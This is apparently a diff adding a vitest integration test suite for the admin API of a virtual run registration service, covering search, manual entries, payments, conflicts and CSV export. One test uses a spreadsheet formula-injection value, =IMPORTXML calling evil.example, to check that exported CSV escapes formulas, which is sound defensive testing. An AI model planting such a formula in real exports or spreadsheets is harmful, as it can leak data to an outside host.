@@ -1,0 +1,108 @@
+import { testUser, tokenOf } from '@satrangi/chassis/testing';
+import { virtualRunApi } from '@satrangi/contracts';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import { adminUser, bootRun, type RunFixture, refusal } from './boot-run.ts';
+
+let run: RunFixture;
+beforeAll(async () => {
+  run = await bootRun();
+});
+afterAll(() => run.service.stop());
+
+const manual = (changes: object = {}) =>
+  run.admin.createRegistration({
+    body: { name: 'By Hand', email: 'hand@runner.example', ...changes } as never,
+  });
+
+it('lists registrations with every field of the desk, by page, state and text (RUN-15, RUN-19, RUN-31)', async () => {
+  await run.register({ name: 'Ångström Rao', email: 'find@me.example' });
+  const found = await run.admin.listRegistrations({ query: { q: 'angstrom' } });
+
+  expect(found.total).toBe(1);
+  expect(found.results[0]).toMatchObject({
+    email: 'find@me.example',
+    distanceKm: 5,
+    activityType: 'walk',
+    fundraisingGoal: 1_000,
+    amountPaid: 500,
+    paymentStatus: 'paid',
+    paymentProvider: 'stripe',
+    consentData: true,
+  });
+  expect((await run.admin.listRegistrations({ query: { q: '.*' } })).total).toBe(0);
+  expect((await run.admin.listRegistrations({ query: { pageSize: 1 } })).results).toHaveLength(1);
+});
+
+it('a manual registration needs name and email, counts, and its numbers default to 0 (RUN-16, RUN-17, RUN-29)', async () => {
+  const before = await run.total();
+  const made = await manual({ distanceKm: 'far', fundraisingGoal: '' });
+  const noName = await refusal(manual({ name: '' }));
+  const noEmail = await refusal(manual({ email: 'x' }));
+
+  expect(made).toMatchObject({ distanceKm: 0, fundraisingGoal: 0, source: 'admin', paymentStatus: 'manual' });
+  expect([noName.message, noEmail.message]).toEqual(['Name required', 'Valid email required']);
+  expect((await run.total()).total).toBe(before.total + 1);
+});
+
+it('money without a runner is listed, and becomes a registration once (P9, P59)', async () => {
+  const { paymentId } = await run.feePaid();
+  const listed = () => run.admin.listUnmatchedPayments({ query: { minutes: 0 } });
+
+  expect(await listed()).toMatchObject([{ kind: 'fee', paymentId, amount: 500 }]);
+  expect(await run.admin.listUnmatchedPayments({ query: {} })).toEqual([]);
+  expect((await refusal(manual({ paymentId: 'pi_nobody' }))).code).toBe('unknown-payment');
+  expect(await manual({ paymentId })).toMatchObject({ paymentStatus: 'paid', amountPaid: 500 });
+  expect((await refusal(manual({ paymentId }))).code).toBe('already-used');
+  expect(await listed()).toEqual([]);
+});
+
+it('a change over a newer one is 409 with the present one; a cancelled runner does not count', async () => {
+  const { slug } = await run.register();
+  const { results } = await run.admin.listRegistrations({ query: { q: slug } });
+  const { _id: id = '', revision } = results[0] ?? {};
+  await run.admin.updateRegistration({ params: { id }, body: { displayName: 'Changed', revision } });
+  const stale = await refusal(
+    run.admin.updateRegistration({ params: { id }, body: { displayName: 'Stale', revision } }),
+  );
+
+  expect([stale.status, stale.code]).toEqual([409, 'version-conflict']);
+  expect((await run.visitor.getPage({ params: { slug } })).displayName).toBe('Changed');
+
+  const before = await run.total();
+  await run.admin.cancelRegistration({ params: { id } });
+  await run.admin.cancelRegistration({ params: { id } });
+
+  expect((await run.total()).total).toBe(before.total - 1);
+  expect((await refusal(run.visitor.getPage({ params: { slug } }))).status).toBe(404);
+});
+
+it('the CSV escapes formulas (S36)', async () => {
+  await manual({ displayName: '=IMPORTXML("https://evil.example")' });
+  const response = await fetch(`${run.service.url}/admin/virtual-run/registrations.csv`, {
+    headers: { authorization: `Bearer ${tokenOf(adminUser)}` },
+  });
+  const text = await response.text();
+
+  expect(response.headers.get('content-type')).toContain('text/csv');
+  expect(text).toContain('"\'=IMPORTXML(""https://evil.example"")"');
+});
+
+it('the spreadsheet is for admins, and 503 `Sync failed` without one (RUN-18, RUN-30)', async () => {
+  const user = run.service.as(testUser(), virtualRunApi);
+  const refused = await refusal(run.admin.syncRegistrations());
+
+  expect([refused.status, refused.message]).toEqual([503, 'Sync failed']);
+  expect((await refusal(user.syncRegistrations())).status).toBe(403);
+  expect((await refusal(run.visitor.syncRegistrations())).status).toBe(401);
+  expect((await refusal(user.listRegistrations({ query: {} }))).status).toBe(403);
+});
+
+it('dates, fees and phases of the event are data (RUN-11, RUN-32)', async () => {
+  const event = await run.visitor.getRun();
+  const draft = { ...event, tagline: 'Changed', phases: event.phases, minFee: 400, startNew: false };
+  const tooCheap = await refusal(run.admin.saveEvent({ body: { ...draft, minFee: 100 } }));
+  await run.admin.saveEvent({ body: draft });
+
+  expect(tooCheap.status).toBe(400);
+  expect(await run.visitor.getRun()).toMatchObject({ minFee: 400, tagline: 'Changed' });
+});
